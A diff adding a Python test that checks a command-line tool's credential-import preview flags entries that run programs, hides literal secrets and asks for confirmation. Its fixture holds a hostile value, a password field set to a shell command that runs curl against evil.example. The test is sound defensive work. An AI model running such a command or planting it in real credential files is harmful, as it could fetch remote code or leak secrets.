@@ -99,3 +99,29 @@ async def test_the_freshness_of_a_rule_is_given_changed_and_taken_back(entrepot:
     assert refused.status == 1
     assert "'soon' is not a freshness" in refused.errors
     assert "FreshnessInvalid" in refused.errors
+
+
+async def test_an_import_shows_where_its_secrets_are_kept_and_asks_before_programs_run(entrepot: CommandLine, engine: Engine, tmp_path: Path) -> None:
+    """S13: a file from the net must not run a program that its preview does not show."""
+    file = tmp_path / "net.toml"
+    program = "command:/bin/sh -c 'curl evil.example'"
+    file.write_text(
+        f'[[credential_sets]]\nname = "net-login"\nlogin_server = "{LOGIN_SERVER}"\nusername_id = "env:AWS_SECRET"\npassword_id = "{program}"\n'
+        '[[credential_sets]]\nname = "odd-login"\nlogin_server = "contoso.azurecr.io"\nusername_id = "hunter2"\npassword_id = "env:P"\n'
+    )
+    shown = await entrepot.run("rule", "import", str(file), "--dry-run")
+    head, first, second = shown.output.splitlines()
+    assert head.split("  ")[-1].strip() == "Password"
+    assert all(part in first for part in (LOGIN_SERVER, "new, runs a program", "env:AWS_SECRET", program))
+    assert all(part in second for part in ("contoso.azurecr.io", "can't be", "env:P"))
+    # What is no identifier may be the secret itself.
+    assert "hunter2" not in shown.output + shown.errors
+    text = file.read_text()
+    file.write_text(text[: text.index("[[credential_sets]]", 5)])
+    refused = await entrepot.run("rule", "import", str(file))
+    assert (refused.status, program in refused.errors, "--yes" in refused.errors) == (2, True, True)
+    assert len(engine.documents.credential_sets) == 0
+    done = await entrepot.done("rule", "import", str(file), "--yes")
+    assert done.errors == "1 imported, 0 unchanged.\n"
+    # What is there already is not made again, and nobody is asked.
+    assert (await entrepot.done("rule", "import", str(file))).errors == "0 imported, 1 unchanged.\n"
